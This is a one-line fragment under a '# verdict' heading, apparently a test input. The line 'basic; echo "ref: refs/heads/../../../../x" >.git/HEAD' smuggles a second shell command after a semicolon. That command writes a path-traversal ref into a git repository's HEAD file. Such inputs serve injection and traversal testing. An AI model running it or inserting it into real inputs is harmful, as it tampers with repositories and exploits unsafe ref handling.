# verdict
basic; echo "ref: refs/heads/../../../../x" >.git/HEAD
